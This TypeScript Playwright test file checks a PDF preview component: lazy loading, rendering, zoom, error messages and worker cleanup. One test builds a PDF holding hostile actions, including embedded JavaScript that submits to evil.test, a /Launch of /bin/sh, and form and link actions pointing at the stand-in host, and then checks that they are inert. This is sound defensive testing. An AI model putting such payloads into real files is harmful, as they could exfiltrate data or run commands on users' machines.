import assert from 'node:assert/strict';
import type { Worker } from 'playwright-core';
import { sampleState } from '../protocol/preview-samples.ts';
import { makePdf } from './pdf-samples.ts';
import { openPreview, type PreviewPage } from './preview-page.ts';
import { resource } from './support.ts';

const pdfState = (name = 'a.pdf', reference = 'artifact:15') =>
  sampleState({
    reference,
    facts: { ...sampleState().facts, name: 'report.pdf', typeName: 'PDF document', mimeType: 'application/pdf', icon: 'file-pdf' },
    content: { kind: 'pdf', uri: resource(name) },
  });

/** Everything of PDF.js, and what it reads. */
const ofPdfs = (request: string): boolean => /pdf/i.test(request);

describe('a PDF in the preview', () => {
  let view: PreviewPage;
  afterEach(() => view.finish());

  const open = async (pdf: Uint8Array | string): Promise<void> => {
    view = await openPreview(pdfState(), { resources: { 'a.pdf': pdf } });
  };
  const pages = () => view.page.locator('preview-pdf-page');
  const drawn = () => view.page.locator('preview-pdf-page canvas[data-drawn]');
  /** How many pixels of a page's picture are dark. */
  const ink = (page: number): Promise<number> =>
    drawn()
      .nth(page)
      .evaluate((element) => {
        const canvas = element as HTMLCanvasElement;
        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
        return Array.from(data).filter((value, index) => index % 4 === 0 && value < 100).length;
      });

  /** Waits until the page has the workers that are wanted, looking whenever one comes or goes. */
  const workersAre = (wanted: (workers: Worker[]) => boolean): Promise<void> =>
    new Promise((resolve) => {
      const look = (): void => {
        if (wanted(view.page.workers())) resolve();
      };
      const follow = (worker: Worker): void => void worker.on('close', look);
      view.page.workers().forEach(follow);
      view.page.on('worker', (worker) => {
        follow(worker);
        look();
      });
      look();
    });

  it('nothing of the PDF viewer is loaded before a PDF is shown, and the viewer then reads the file once', async () => {
    view = await openPreview(sampleState({ content: { kind: 'facts' } }), { resources: { 'a.pdf': makePdf() } });
    await view.page.getByText('There is no visual preview').waitFor();
    assert.deepEqual(view.requests.filter(ofPdfs), []);
    await view.show(pdfState());
    await drawn().waitFor();
    assert.equal(view.requests.filter((request) => request === 'resources/a.pdf').length, 1);
    assert.ok(view.requests.includes('dist/pdf.worker.js'));
  });

  it('pages are drawn when they come near the screen, and give their memory back when they leave it', async () => {
    await open(makePdf({ pages: Array.from({ length: 40 }, (_, index) => `Page number ${index + 1}`) }));
    await view.page.getByText('40 pages').waitFor();
    await drawn().first().waitFor();
    assert.equal(await pages().count(), 40);
    assert.ok((await drawn().count()) < 8);
    assert.ok((await ink(0)) > 100);
    await pages().last().scrollIntoViewIfNeeded();
    await pages().last().locator('canvas[data-drawn]').waitFor();
    await view.page.waitForFunction(() => {
      const all = [...document.querySelectorAll('*')].flatMap(function deep(element): Element[] {
        return [element, ...[...(element.shadowRoot?.querySelectorAll('*') ?? [])].flatMap(deep)];
      });
      const first = all.find((element) => element.localName === 'preview-pdf-page');
      return first !== undefined && !first.shadowRoot?.querySelector('canvas');
    });
  });

  it('the text of a page can be selected and read aloud, page by page', async () => {
    await open(makePdf({ pages: ['First', 'Second'] }));
    await view.page.getByRole('region', { name: 'Pages of report.pdf' }).waitFor();
    await view.page.getByRole('group', { name: 'Page 2 of 2' }).getByText('Second').waitFor();
  });

  it('fits the width there is, or is as large as on paper', async () => {
    await open(makePdf());
    await drawn().waitFor();
    const width = async (): Promise<number> => (await pages().first().boundingBox())?.width ?? 0;
    assert.ok((await width()) > 900, 'as wide as the view');
    await view.page.getByRole('button', { name: 'Show at actual size' }).click();
    await view.page.getByText('actual size').waitFor();
    assert.equal(Math.round(await width()), 400, '300 points are 400 pixels');
  });

  it('one that asks for a password says so', async () => {
    await open(makePdf({ encrypted: true }));
    await view.page.getByText('This PDF is password-protected').waitFor();
    assert.equal(await pages().count(), 0);
  });

  it('a broken one says so', async () => {
    await open('%PDF-1.7\nthis is not one');
    await view.page.getByText('This PDF is damaged').waitFor();
  });

  it('a file that is gone says so', async () => {
    await open('');
    await view.page.getByText('This PDF is damaged').waitFor();
    await view.show(pdfState('gone.pdf', 'artifact:16'));
    await view.page.getByText('The file could not be loaded.').waitFor();
    const expected = view.problems.splice(0);
    assert.ok(
      expected.every((problem) => /gone\.pdf|404/.test(problem)),
      expected.join('\n'),
    );
  });

  it('scripts, links, forms and attachments in it do nothing, and nothing is asked for from outside', async () => {
    const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.test/js"\\)) >>';
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.test/link) >> >>';
    const launch = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (/bin/sh) >> >>';
    const submit =
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (https://evil.test/form) >> >>';
    await open(
      makePdf({
        catalog: `/OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> /AA << /WC ${script} >>`,
        page: `/AA << /O ${script} >> /Annots [${link} ${launch} ${submit}]`,
      }),
    );
    await drawn().waitFor();
    const address = view.page.url();
    assert.equal(
      await view.page.locator('preview-pdf a, preview-pdf button:not(vscode-toolbar-button button), preview-pdf iframe').count(),
      0,
    );
    await pages().first().click();
    await view.show(sampleState({ content: { kind: 'facts' } }));
    await view.page.getByText('There is no visual preview').waitFor();
    assert.deepEqual(
      view.requests.filter((request) => request.includes(':')),
      [],
    );
    assert.equal(view.page.url(), address, 'no other page is shown');
  });

  it('Chinese without its font is drawn with a font of the system, by character maps of our own', async () => {
    const font =
      '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /ItalicAngle 0 /Ascent 752 /Descent -271 /CapHeight 737 /StemV 58 /FontBBox [-25 -254 1000 880] >> >>] >>';
    await open(makePdf({ font, pages: ['<4E2D6587>'] }));
    await drawn().waitFor();
    assert.ok((await ink(0)) > 100);
    await view.page.getByRole('group', { name: 'Page 1 of 1' }).getByText('中文').waitFor();
    assert.ok(view.requests.includes('dist/pdf/cmaps/UniGB-UCS2-H.bcmap'));
  });

  it('another artifact ends its worker, and a PDF may follow a PDF', async () => {
    await open(makePdf({ pages: ['First'] }));
    await drawn().waitFor();
    const [first] = view.page.workers();
    await view.show({ ...pdfState(), content: { kind: 'pdf', uri: `${resource('a.pdf')}?read=2` } });
    await view.show({ ...pdfState(), content: { kind: 'pdf', uri: `${resource('a.pdf')}?read=3` } });
    await workersAre(([worker, ...others]) => worker !== undefined && worker !== first && others.length === 0);
    await drawn().waitFor();
    await view.show(sampleState({ reference: 'artifact:17', content: { kind: 'facts' } }));
    await workersAre((workers) => workers.length === 0);
  });

  it('images it cannot draw are spoken of', async () => {
    await open(makePdf({ page: '/Note (/JPXDecode)' }));
    await view.page.getByText('Images in JPEG 2000 and JBIG2 are not drawn here.').waitFor();
  });

  it('they are found in a large file, across the border of what is searched in one go', async () => {
    const mebibyte = 1024 * 1024;
    const without = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R '.length;
    await open(makePdf({ catalog: `/Note (${' '.repeat(mebibyte - without - '/Note ('.length - 5)}/JPXDecode)` }));
    await view.page.getByText('Images in JPEG 2000 and JBIG2 are not drawn here.').waitFor();
  });

  it('of very many pages the first 200 are laid out, and more when asked for', async () => {
    await open(makePdf({ pages: Array.from({ length: 450 }, (_, index) => `${index + 1}`) }));
    await view.page.getByText('450 pages').waitFor();
    assert.equal(await pages().count(), 200);
    const more = view.page.getByRole('button', { name: 'Show more pages' });
    await more.click();
    await pages().nth(399).waitFor();
    assert.equal(await pages().count(), 400);
    await more.click();
    await pages().nth(449).waitFor();
    assert.equal(await more.count(), 0);
    assert.equal(await pages().count(), 450);
  });
});
